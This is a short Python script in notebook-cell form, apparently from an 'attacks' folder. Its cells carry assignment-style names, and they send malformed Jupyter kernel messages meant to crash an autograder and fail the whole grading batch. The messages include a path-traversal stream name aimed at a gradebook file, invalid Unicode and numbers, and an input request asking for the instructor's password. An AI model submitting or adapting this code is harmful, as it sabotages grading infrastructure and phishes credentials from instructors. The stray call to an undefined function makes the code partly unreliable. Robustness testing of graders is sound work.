# Publishes messages that no notebook can hold: no data, data of the wrong type, unknown streams and
# types, lone surrogates, numbers that are not JSON. A grader that trusts them fails, and with it the
# batch. The first of them cost nothing here; each of the others ends what is read of the kernel, so
# four cells send one of them each, which are as many kernels as there are.
# %% from attacks/parts/stand_ins.py
# %% relu
malformed = [
    ("update_display_data", {"data": {}, "transient": {"display_id": {}}}),
    ("clear_output", {}),
    ("comm_open", {"comm_id": "\udcff", "data": {}}),
    ("comm_msg", {}),
    ("status", {"execution_state": "graded"}),
    (
        "display_data",
        {"data": {"application/json": float("nan")}, "metadata": {"x": float("inf")}},
    ),
    ("display_data", {}),
    ("display_data", {"data": "no dictionary", "metadata": 3, "transient": None}),
    ("display_data", {"data": {"text/plain": {"a": [1]}, "": None}, "metadata": {}}),
    ("execute_result", {"data": None, "execution_count": "many"}),
    ("stream", {"name": "../../gradebook.db", "text": 7}),
    ("stream", {"text": "\udcff lone surrogate"}),
    ("error", {"ename": None, "evalue": ["\x00"], "traceback": "none"}),
    ("input_request", {"prompt": "password of the instructor: ", "password": True}),
    ("no such type", None),
]


def attack(messages=malformed):
    kernel = get_ipython().kernel
    for msg_type, content in messages:
        try:
            kernel.session.send(kernel.iopub_socket, msg_type, content, parent=kernel.get_parent())
            deed()
        except Exception as error:
            print(msg_type, repr(error))
    return "sent"


attack(malformed[:6])
# %% training_1
attack(malformed[6:7])
# %% training_2
attack(malformed[7:8])
# %% play
attack(malformed[10:11])
# %% classify
attack(malformed[-1:])
